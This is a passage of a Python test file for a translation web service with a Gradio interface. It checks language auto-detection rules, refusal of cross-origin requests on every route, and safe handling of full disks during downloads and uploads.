    ({"q": "12 345", "source": "en", "target": "ar"}, 200, "12 345"),
    ({"q": "12 345", "source": "auto", "target": "ar"}, 200, "12 345"),
    ({"q": "", "source": "auto", "target": "en"}, 400, "missing q"),
    ({"q": "Hello there.", "source": "en", "target": "en"}, 400, "both English"),
    ({"q": "Hello there.", "source": "auto", "target": "en"}, 400, "both English"),
    ({"q": ["نص", "Hello there."], "source": "auto", "target": "en"}, 400, "item 2"),
]


@pytest.mark.parametrize(("body", "status", "expected"), SAME_RULE)
def test_a_detected_source_follows_the_rules_of_a_stated_one(
    client: httpx.Client, body: dict[str, Any], status: int, expected: Any
) -> None:
    answer = client.post("/translate", json=body)
    assert answer.status_code == status, answer.text
    if status == 200:
        assert answer.json()["translatedText"] == expected
    else:
        assert expected in answer.json()["error"]


def test_mixed_lists_with_empty_items_translate_the_rest(
    client: httpx.Client, memorised_pairs: list[tuple[str, str]]
) -> None:
    (arabic, english), (arabic2, english2) = memorised_pairs[:2]
    answer = client.post("/translate", json={"q": [arabic, "", arabic2], "source": "auto", "target": "en"})
    assert answer.status_code == 200, answer.text
    assert answer.json()["translatedText"] == [english, "", english2]
    assert [d["language"] for d in answer.json()["detectedLanguage"]] == ["ar", "ar", "ar"]


# --- other origins ----------------------------------------------------------------------------------

JOIN = {"data": ["hello", "auto", ""], "fn_index": 1, "session_hash": "s"}  # the page's way to start an event
CROSS_ORIGIN = [  # every kind of route: the API, Gradio's API and uploads, the page's files, the docs
    ("POST", "/translate", {"json": {"q": "نص", "source": "ar", "target": "en", "api_key": FREE_KEY}}),
    ("POST", "/gradio_api/call/translate", {"json": {"data": ["hello", "auto", ""]}}),
    ("POST", "/gradio_api/queue/join", {"json": JOIN}),
    ("POST", "/gradio_api/upload", {"files": [("files", ("a.txt", b"x"))]}),
    ("GET", "/gradio_api/info", {}),
    ("GET", "/config", {}),
    ("GET", "/health", {}),
    ("GET", "/openapi.json", {}),
]
OTHER_ORIGINS = ["http://localhost:8000", "http://127.0.0.1:9", "null", "https://evil.example"]


@pytest.mark.parametrize(("method", "path", "kwargs"), CROSS_ORIGIN, ids=[p for _, p, _ in CROSS_ORIGIN])
def test_pages_of_other_origins_are_refused_on_every_route(
    keyed: str, method: str, path: str, kwargs: dict[str, Any]
) -> None:
    port = keyed.rsplit(":", 1)[1]
    cookie = {"Cookie": f"tarjama_api_key={FREE_KEY}"}  # what the browser would send along
    with httpx.Client(base_url=keyed, timeout=120) as http:
        for origin in [*OTHER_ORIGINS, f"http://localhost:{int(port) + 1}"]:
            answer = http.request(method, path, headers={"Origin": origin, **cookie}, **kwargs)
            assert answer.status_code == 403 and answer.json()["error"], (origin, answer.text)
            assert "access-control-allow-origin" not in answer.headers
            preflight = http.options(
                path, headers={"Origin": origin, "Access-Control-Request-Method": method, **cookie}
            )
            assert preflight.status_code == 403 and "access-control-allow-origin" not in preflight.headers
        for origin in (keyed, ALLOWED_ORIGIN):  # its own page, and the one allowed
            answer = http.request(method, path, headers={"Origin": origin, **cookie}, **kwargs)
            assert answer.status_code == 200, (origin, answer.text)
        assert answer.headers["access-control-allow-origin"] == ALLOWED_ORIGIN
        assert answer.headers["access-control-allow-credentials"] == "true"


# --- full disks -------------------------------------------------------------------------------------


def _chunked_upload(http: httpx.Client, name: str, data: bytes) -> httpx.Response:
    """An upload as a stream, without ``Content-Length``: the server learns its size only as it writes."""
    request = http.build_request("POST", "/gradio_api/upload", files=[("files", (name, data))])
    body = request.read()
    headers = {"Content-Type": request.headers["Content-Type"]}
    return http.post("/gradio_api/upload", content=iter([body[:1000], body[1000:]]), headers=headers)


def test_full_disks_keep_finished_work_and_leave_no_partial_upload(
    memorised_ar_en: Path,
    memorised_pairs: list[tuple[str, str]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    arabic, english = memorised_pairs[0]
    article = "The first sentence of the article. A second sentence follows it. The third one ends it."
    with faults(monkeypatch) as fault:
        (tmp_path / "uploads").mkdir()
        (tmp_path / "work").mkdir()
        uploads = fault.small_folder(tmp_path / "uploads", 4096)  # Gradio's temporary folder
        work = fault.small_folder(tmp_path / "work", 1024)  # where the page writes its downloads
        env = {"GRADIO_TEMP_DIR": str(uploads), "TMPDIR": str(work)}
        with (
            running_app(["--mt-model", str(memorised_ar_en)], tmp_path, env) as url,
            httpx.Client(base_url=url, timeout=120) as http,
        ):
            fault.fill(work)
            translation, status, _, txt, data = gradio_call(http, "translate", [arabic, "ar-en", ""])
            assert translation == english and "downloads could not be written" in status
            assert (txt, data) == (None, None)
            summary, status, _, download = gradio_call(http, "summarize", [article, "extractive", 1, "same"])
            assert summary and "downloads could not be written" in status and download is None
            assert sorted(p.name for p in work.rglob("*")) == ["ballast"] + [
                p.name for p in work.iterdir() if p.name.startswith("tarjama-ui-")
            ]  # no partial download left
            fault.free(work)
            fault.fill(uploads)
            before = sorted(str(p) for p in uploads.rglob("*"))
            for send in (
                lambda: http.post("/gradio_api/upload", files=[("files", ("a.txt", b"x" * 200_000))]),
                lambda: _chunked_upload(http, "b.txt", b"y" * 200_000),
            ):
                answer = send()
                assert answer.status_code == 503 and "disk is full" in answer.json()["error"], answer.text
                assert sorted(str(p) for p in uploads.rglob("*")) == before
            fault.free(uploads)
            assert upload(http, {"c.txt": b"z" * 1000})  # room again: uploads work again
